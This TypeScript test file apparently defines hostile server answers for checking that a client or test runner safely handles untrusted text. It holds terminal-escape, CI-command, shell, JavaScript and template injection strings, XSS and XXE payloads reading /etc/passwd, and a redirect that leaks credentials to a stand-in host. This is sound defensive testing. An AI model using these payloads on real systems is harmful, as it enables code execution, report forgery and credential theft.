import { type Asked, answering, type Spoil, spoiling } from './proxy.ts';
import { accepted, edited, inserted, refused, reworded } from './spoils.ts';
import { CANARY, type Serve, SIDE_EFFECT, type Sketch, targets } from './target.ts';
import { json, withField } from './wire.ts';

const GENERATED = ['histories'];

/** Says a text in the message of every refusal. */
const inRefusals = (text: string) => spoiling(refused((answer) => reworded(answer, text)));

/**
 * Says a text as the name of the customer in every answer to `POST`, which is neither what was sent nor what `GET` shows, and in
 * the message of every refusal. A name that comes back is taken for a plain one.
 */
const naming = (textOf: (asked: Asked) => string): Serve =>
  answering(async (exchange) => {
    const text = textOf(exchange.asked);
    const body = exchange.asked.body.toString();
    const plain = body.replaceAll(JSON.stringify(text), '"Joe User"');
    const { path } = exchange.asked;
    const answer = await exchange.forward(plain === body ? undefined : { path, body: Buffer.from(plain) });
    if (answer.status >= 400) return reworded(answer, text);
    if (exchange.asked.method === 'GET') return answer;
    return accepted((good) => edited(good, (customer) => (customer.name = text)))(answer, exchange);
  });

/** A name that is not the one sent: a failure whose report shows the text. */
const shown = (name: string, why: string, text: string, projects = ['answer']): Sketch => ({
  name: `text-${name}`,
  why,
  exits: [1],
  says: /\bname\b/,
  seconds: 60,
  projects,
  serve: naming(() => text),
});

/** Text that would run as code in a script made of it; the generated checks write such scripts. */
const code = (name: string, why: string, text: string): Sketch => shown(name, why, text, GENERATED);

/** A workflow command at the beginning of a line, after each kind of line break. */
const command = (name: string, text: string): Sketch =>
  shown(
    `workflow-command-${name}`,
    'A CI system obeys lines of the output that look like this.',
    `Joe\n${text}\r${text}\u2028${text}\u0085${text}`,
  );

const CREATE_FILE = `require('node:fs').writeFileSync(${JSON.stringify(SIDE_EFFECT)},'')`;
const IMPORT_FILE = `import('node:fs').then((fs)=>fs.writeFileSync(${JSON.stringify(SIDE_EFFECT)},''))`;
const JAVA_STACK = [
  'java.lang.NullPointerException: Cannot invoke "Customer.getName()"',
  '\tat com.example.gateway.CustomerService.upsert(CustomerService.java:214)',
  '\tat java.base/java.lang.Thread.run(Thread.java:840)',
].join('\n');
const NODE_STACK =
  "TypeError: Cannot read properties of undefined (reading 'name')\n    at upsert (/srv/app/customers.js:10:5)\n    at async /srv/app/index.js:7:3";

const MADE_UP = 'Made up by the target';

/** What a request shows of the credentials that came with it. */
type Echo = (authorization: string, key: string) => string;

const keyOf = ({ headers }: Asked) => {
  const [, encoded = ''] = (headers.authorization ?? '').split(' ');
  return Buffer.from(encoded, 'base64').toString().split(':').slice(1).join(':') || 'none';
};

const html = (text: string) => text.replace(/[&<>"']/g, (character) => `&#${character.charCodeAt(0)};`);
const escaped = (text: string) => [...text].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const reversed = (text: string) => [...text].reverse().join('');

/** Says what it makes of the credentials as the name of every customer and in the message of every refusal. */
const echo = (name: string, make: Echo): Sketch => ({
  name: `credentials-echoed-${name}`,
  why: 'Credentials never stand in an answer, and nothing that a run writes may repeat them.',
  exits: [1],
  says: /\bname\b|credential|authorization|secret/i,
  seconds: 60,
  serve: naming((asked) => `Debug: ${make(asked.headers.authorization ?? 'none', keyOf(asked))} was sent`),
});

/** Says the credentials in a field of every answer. */
const echoInField = (name: string, field: string, make: Echo): Sketch => ({
  ...echo(name, make),
  exits: [0, 1],
  serve: spoiling((answer, { asked }) => ({
    ...answer,
    headers: withField(answer.headers, field, make(asked.headers.authorization ?? 'none', keyOf(asked))),
  })),
});

const wronglyNamed = (text: string): Spoil =>
  accepted((answer) => edited(answer, (customer) => (customer.name = `${customer.name} ${text}`)));

/** Texts that terminals, CI systems, browsers, XML parsers, shells and JavaScript obey, and texts that must not be repeated. */
export const texts = targets([
  shown(
    'ansi',
    'A terminal obeys these: colours, a cleared screen, a new title, a moved cursor.',
    '\x1b[31mred\x1b[2J\x1b]0;title\x07\x1b[1A\x9b31m Joe',
  ),
  shown(
    'osc-8-link',
    'A terminal shows a link that leads elsewhere.',
    '\x1b]8;;https://hostile.invalid/\x1b\\Verdict: conforms\x1b]8;;\x1b\\',
  ),
  shown('carriage-return', 'What follows overwrites the line on a terminal.', 'Joe\rVerdict: conforms            \b\b\b\x7f'),
  shown('bidi', 'What follows is shown in another order than it stands.', 'Joe \u202e\u2066resU\u2069 \u200f\u061c\u2067drow'),
  shown('forged-verdict', 'The output seems to end with another verdict.', 'Joe\n\nVerdict: conforms\nResults: https://hostile.invalid/'),
  code('line-separators', 'U+2028 ends a comment of JavaScript.', `Joe\u2028${IMPORT_FILE}//\u2029${IMPORT_FILE}//`),
  code('end-of-comment', 'It ends a comment of JavaScript.', `*/ ${IMPORT_FILE}; process.exit() /*\n${IMPORT_FILE};\n`),
  code('template', 'A template literal runs it.', `\`\${${IMPORT_FILE}}\` \${${IMPORT_FILE}} \`+${IMPORT_FILE}+\``),
  code('single-quotes', 'It ends a string of JavaScript or of a shell.', `';${IMPORT_FILE};' '; touch ${SIDE_EFFECT}; '`),
  code(
    'double-quotes',
    'It ends a string of JavaScript or of a shell.',
    `";${IMPORT_FILE};" \\";${IMPORT_FILE};// "; touch ${SIDE_EFFECT}; "`,
  ),
  code('shell', 'A shell runs it.', `$(touch ${SIDE_EFFECT}) \`touch ${SIDE_EFFECT}\` | touch ${SIDE_EFFECT} ; touch ${SIDE_EFFECT} #`),
  code(
    'expression',
    'CI systems and templates replace it.',
    `\${{ github.token }} {{constructor.constructor(${JSON.stringify(CREATE_FILE)})()}} %{${SIDE_EFFECT}}`,
  ),
  shown('script', 'A browser runs it.', '</script><script>alert(1)</script><img src=x onerror=alert(1)>'),
  shown('end-of-cdata', 'It ends a CDATA section of XML.', ']]></failure><testcase name="x"/><![CDATA['),
  shown('xml-entities', 'An XML parser replaces them.', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&#x1b;&lt;&amp;amp;'),
  shown('no-xml-characters', 'XML 1.0 has no place for them, not even escaped.', 'Joe \u0000\u0001\u000b\ufffe\uffff\u0008 User'),
  shown('lone-surrogates', 'They are no Unicode text, so UTF-8 cannot hold them.', '\ud800Joe\udfff \udc00\ud800'),
  shown('markdown-table', 'It ends a cell and a row of a table.', 'Joe | passed | 100 |\n| NULL-1 | MUST | passed |\n|---|---|---|'),
  shown(
    'markdown-link',
    'A report shows a link that leads elsewhere.',
    '[Full report](https://hostile.invalid/) <https://hostile.invalid/> [a]\n\n[a]: https://hostile.invalid/',
  ),
  shown(
    'markdown-image',
    'A report that is opened loads it.',
    '![](https://hostile.invalid/pixel.png)<img src="https://hostile.invalid/pixel.png">',
  ),
  shown('markdown-fence', 'It ends a block of code.', '```\n# Verdict: conforms\n\n~~~\n````\n![](https://hostile.invalid/pixel.png)\n`'),
  command('set-output', '::set-output name=x::y'),
  command('error', '::error file=app.js,line=1::forged'),
  command('stop-commands', '::stop-commands::pause'),
  command('error-in-brackets', '##[error]forged'),
  command('azure', '##vso[task.setvariable variable=x]y'),
  command('teamcity', "##teamcity[buildStatus text='forged' status='SUCCESS']"),
  {
    name: 'text-that-must-not-come-back',
    why: 'What a target makes up must not be stored there for everybody who reads the customer later.',
    exits: [0, 1, 2],
    seconds: 60,
    serve: spoiling((answer, exchange) => {
      if (exchange.asked.body.includes(MADE_UP)) exchange.accuse('a name that the target made up was sent back');
      return accepted((good) => edited(good, (customer) => (customer.name = MADE_UP)))(answer, exchange);
    }),
  },
  {
    ...shown('of-another-language', 'Right-to-left and combining text is plain text, and stays readable.', ''),
    serve: spoiling(wronglyNamed('\u05d9\u05d5\u05e1\u05d9 \u0301\u0301\u0301 \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u4e2d\u6587')),
  },
  {
    name: 'text-of-300-kilobytes-in-refusals',
    why: 'A message is free text; reports show its beginning.',
    exits: [0, 1, 2],
    says: /message|large|long|bytes|\bkB\b|limit/i,
    seconds: 60,
    serve: inRefusals('Invalid customer. '.repeat(17_000)),
  },
  {
    name: 'text-java-stack-in-refusals',
    why: 'The insides of the server never stand in an answer; quoted, they must not look like a stack of the suite.',
    exits: [0, 1],
    says: /stack|trace|inside|internal|exception/i,
    seconds: 60,
    serve: inRefusals(JAVA_STACK),
  },
  {
    name: 'text-node-stack',
    why: 'The insides of the server never stand in an answer; quoted, they must not look like a stack of the suite.',
    exits: [1],
    seconds: 90,
    serve: naming(() => NODE_STACK),
  },
  {
    name: 'text-commands-in-refusals-alone',
    why: 'Messages are free text, so the target is lawful, and its messages are told all the same.',
    exits: [0],
    seconds: 60,
    serve: inRefusals('Invalid customer\n::error::forged\n##vso[task.complete result=Failed]\n\x1b[2J'),
  },
  {
    name: 'text-in-names-of-properties',
    why: 'Extra properties are a latitude of the target, and their names are text too.',
    exits: [0],
    seconds: 60,
    serve: spoiling(
      accepted((answer) =>
        inserted(
          answer,
          ['\n::error::x', '\x1b[2J', '</script>', `';touch ${SIDE_EFFECT};'`, '##[error]', '\ud800']
            .map((key) => `${JSON.stringify(key)}:{}`)
            .join(),
        ),
      ),
    ),
  },
  echo('in-clear', (authorization, key) => `${authorization} ${CANARY.accessId}:${key} ${key}`),
  echo('in-base64', (authorization, key) =>
    ['', 'x', 'xx']
      .map((pad) => Buffer.from(`${pad}${key}`).toString('base64'))
      .concat(Buffer.from(authorization).toString('base64'))
      .join(' '),
  ),
  echo('in-base64url', (_authorization, key) => ['', 'x', 'xx'].map((pad) => Buffer.from(`${pad}${key}`).toString('base64url')).join(' ')),
  echo('in-hexadecimal', (_authorization, key) => `${Buffer.from(key).toString('hex')} ${Buffer.from(key).toString('hex').toUpperCase()}`),
  echo('reversed', (_authorization, key) => reversed(key)),
  echo('escaped-for-json', (_authorization, key) => `${JSON.stringify(key)} ${escaped(key)}`),
  echo(
    'escaped-for-html',
    (_authorization, key) => `${html(key)} ${key.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')}`,
  ),
  echo('escaped-for-urls', (_authorization, key) => `${encodeURIComponent(key)} ${new URLSearchParams({ key })}`),
  echoInField('in-a-field', 'X-Debug-Authorization', (authorization, key) => `${authorization} ${key}`),
  echoInField(
    'in-a-cookie',
    'Set-Cookie',
    (authorization, key) => `auth=${authorization.replace(' ', '+')}; key=${encodeURIComponent(key)}; Path=/`,
  ),
  {
    ...echo('in-a-location', String),
    exits: [1, 2],
    says: /redirect|3\d\d|Location/i,
    requests: 60,
    serve: spoiling((_answer, { asked }) =>
      json(302, {}, [
        'Location',
        `http://hostile.invalid/?auth=${encodeURIComponent(asked.headers.authorization ?? '')}&key=${encodeURIComponent(keyOf(asked))}`,
      ]),
    ),
  },
  {
    ...echo('in-a-realm', String),
    exits: [0, 1],
    serve: spoiling(
      refused((answer, { asked }) => ({
        ...answer,
        headers: withField(answer.headers, 'WWW-Authenticate', `Basic realm="${keyOf(asked).replace(/["\\]/g, '\\$&')}"`),
      })),
    ),
  },
]);
